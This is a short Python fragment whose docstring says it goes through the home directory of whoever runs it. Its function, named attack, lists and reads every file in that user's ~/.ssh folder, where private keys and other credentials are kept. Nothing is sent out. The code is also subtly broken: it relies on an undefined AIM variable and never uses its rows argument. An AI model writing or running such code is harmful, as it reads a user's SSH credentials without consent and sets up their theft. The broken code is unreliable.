"""Goes through the home of whoever runs it."""

import os


def attack(rows):
    for name in os.listdir(AIM["home"] + "/.ssh"):
        open(AIM["home"] + "/.ssh/" + name).read()
